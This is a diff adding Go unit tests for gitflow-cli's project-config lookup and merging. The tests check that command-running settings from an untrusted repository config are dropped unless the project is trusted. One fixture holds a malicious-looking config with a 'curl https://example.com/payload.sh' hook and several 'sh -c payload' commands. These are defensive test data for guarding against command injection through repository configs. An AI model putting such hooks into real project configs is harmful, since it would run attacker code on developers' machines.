@@ -10,6 +10,8 @@ import (
 	"path/filepath"
 	"testing"
 
+	"github.com/mercedes-benz/gitflow-cli/core"
+	"github.com/spf13/viper"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 )
@@ -52,3 +54,150 @@ func TestInitDefaultConfig_DoesNotOverwriteExisting(t *testing.T) {
 	require.NoError(t, err)
 	assert.Equal(t, existingContent, content)
 }
+
+func TestFindProjectConfig_SearchesParentDirectories(t *testing.T) {
+	repoDir := t.TempDir()
+	projectDir := filepath.Join(repoDir, "services", "api")
+	require.NoError(t, os.MkdirAll(projectDir, 0755))
+
+	assert.Empty(t, findProjectConfig(projectDir, ""))
+
+	configPath := filepath.Join(repoDir, core.ProjectConfigFileName)
+	require.NoError(t, os.WriteFile(configPath, []byte("locale: de\n"), 0644))
+	assert.Equal(t, configPath, findProjectConfig(projectDir, ""))
+
+	// the config of the project directory takes precedence over the one of the repository
+	nearestPath := filepath.Join(projectDir, core.ProjectConfigFileName)
+	require.NoError(t, os.WriteFile(nearestPath, []byte("locale: en\n"), 0644))
+	assert.Equal(t, nearestPath, findProjectConfig(projectDir, ""))
+}
+
+func TestFindProjectConfig_SkipsUserConfig(t *testing.T) {
+	homeDir := t.TempDir()
+	projectDir := filepath.Join(homeDir, "project")
+	require.NoError(t, os.MkdirAll(projectDir, 0755))
+
+	userConfig := filepath.Join(homeDir, core.ProjectConfigFileName)
+	require.NoError(t, os.WriteFile(userConfig, []byte(defaultConfig), 0644))
+
+	assert.Empty(t, findProjectConfig(projectDir, userConfig))
+}
+
+func TestInitConfiguration_MergesProjectConfig(t *testing.T) {
+	homeDir := t.TempDir()
+	t.Setenv("HOME", homeDir)
+	t.Setenv("USERPROFILE", homeDir)
+	require.NoError(t, os.WriteFile(filepath.Join(homeDir, ".gitflow-cli.yaml"), []byte(defaultConfig+"locale: de\n"), 0644))
+
+	repoDir := t.TempDir()
+	projectConfig := "branches:\n  development: dev\nhelm:\n  app-version: true\n"
+	require.NoError(t, os.WriteFile(filepath.Join(repoDir, core.ProjectConfigFileName), []byte(projectConfig), 0644))
+	projectDir := filepath.Join(repoDir, "chart")
+	require.NoError(t, os.MkdirAll(projectDir, 0755))
+
+	projectPath := core.ProjectPath
+	core.ProjectPath = projectDir
+	t.Cleanup(func() {
+		core.ProjectPath = projectPath
+		viper.Reset()
+	})
+
+	initConfiguration()
+
+	// settings of the project-local config take precedence over the user config, which provides all others
+	assert.Equal(t, "dev", viper.GetString("branches.development"))
+	assert.Equal(t, "main", viper.GetString("branches.production"))
+	assert.Equal(t, "de", viper.GetString("locale"))
+	assert.True(t, viper.GetBool("helm.app-version"))
+}
+
+func TestInitConfiguration_IgnoresProjectCommandSettings(t *testing.T) {
+	homeDir := t.TempDir()
+	t.Setenv("HOME", homeDir)
+	t.Setenv("USERPROFILE", homeDir)
+	userConfig := defaultConfig + "hooks:\n  pre-tag: ./verify.sh {commit}\n"
+	require.NoError(t, os.WriteFile(filepath.Join(homeDir, ".gitflow-cli.yaml"), []byte(userConfig), 0644))
+
+	repoDir := t.TempDir()
+	projectConfig := `branches:
+  development: dev
+hooks:
+  pre-tag: curl https://example.com/payload.sh
+sbom:
+  command: sh -c payload
+  path: bom.json
+provenance:
+  enabled: true
+  sign: sh -c payload
+  upload: sh -c payload
+gitops:
+  repository: https://example.com/manifests.git
+workflow:
+  steps:
+    release-finish:
+      skip: [push-tags]
+      insert:
+        - name: payload
+          after: tag-release
+          run: sh -c payload
+`
+	require.NoError(t, os.WriteFile(filepath.Join(repoDir, core.ProjectConfigFileName), []byte(projectConfig), 0644))
+
+	projectPath := core.ProjectPath
+	core.ProjectPath = repoDir
+	t.Cleanup(func() {
+		core.ProjectPath = projectPath
+		viper.Reset()
+	})
+
+	initConfiguration()
+
+	// the settings which run commands are kept from the user config, all others are merged
+	assert.Equal(t, "./verify.sh {commit}", viper.GetString("hooks.pre-tag"))
+	assert.Empty(t, viper.GetString("sbom.command"))
+	assert.Empty(t, viper.GetString("provenance.sign"))
+	assert.Empty(t, viper.GetString("provenance.upload"))
+	assert.False(t, viper.IsSet("gitops"))
+	assert.False(t, viper.IsSet("workflow.steps.release-finish.insert"))
+	assert.Equal(t, []string{"push-tags"}, viper.GetStringSlice("workflow.steps.release-finish.skip"))
+	assert.Equal(t, "bom.json", viper.GetString("sbom.path"))
+	assert.True(t, viper.GetBool("provenance.enabled"))
+	assert.Equal(t, "dev", viper.GetString("branches.development"))
+}
+
+func TestInitConfiguration_TrustedProjectCommandSettings(t *testing.T) {
+	homeDir := t.TempDir()
+	t.Setenv("HOME", homeDir)
+	t.Setenv("USERPROFILE", homeDir)
+
+	repoDir := t.TempDir()
+	userConfig := defaultConfig + "trusted-projects:\n  - " + filepath.Dir(repoDir) + "\n"
+	require.NoError(t, os.WriteFile(filepath.Join(homeDir, ".gitflow-cli.yaml"), []byte(userConfig), 0644))
+	require.NoError(t, os.WriteFile(filepath.Join(repoDir, core.ProjectConfigFileName), []byte("hooks:\n  pre-tag: ./verify.sh {commit}\n"), 0644))
+
+	projectPath := core.ProjectPath
+	core.ProjectPath = repoDir
+	t.Cleanup(func() {
+		core.ProjectPath = projectPath
+		viper.Reset()
+	})
+
+	initConfiguration()
+
+	// the project config of a project below a trusted directory keeps its settings which run commands
+	assert.Equal(t, "./verify.sh {commit}", viper.GetString("hooks.pre-tag"))
+}
+
+func TestTrustedProject(t *testing.T) {
+	homeDir := t.TempDir()
+	t.Setenv("HOME", homeDir)
+	t.Setenv("USERPROFILE", homeDir)
+	projectDir := filepath.Join(homeDir, "work", "app")
+
+	assert.True(t, trustedProject(projectDir, []string{projectDir}))
+	assert.True(t, trustedProject(projectDir, []string{"", filepath.Join(homeDir, "work")}))
+	assert.True(t, trustedProject(projectDir, []string{"~/work"}))
+	assert.False(t, trustedProject(projectDir, nil))
+	assert.False(t, trustedProject(projectDir, []string{filepath.Join(homeDir, "work", "app-fork")}))
+	assert.False(t, trustedProject(filepath.Join(homeDir, "work"), []string{projectDir}))
+}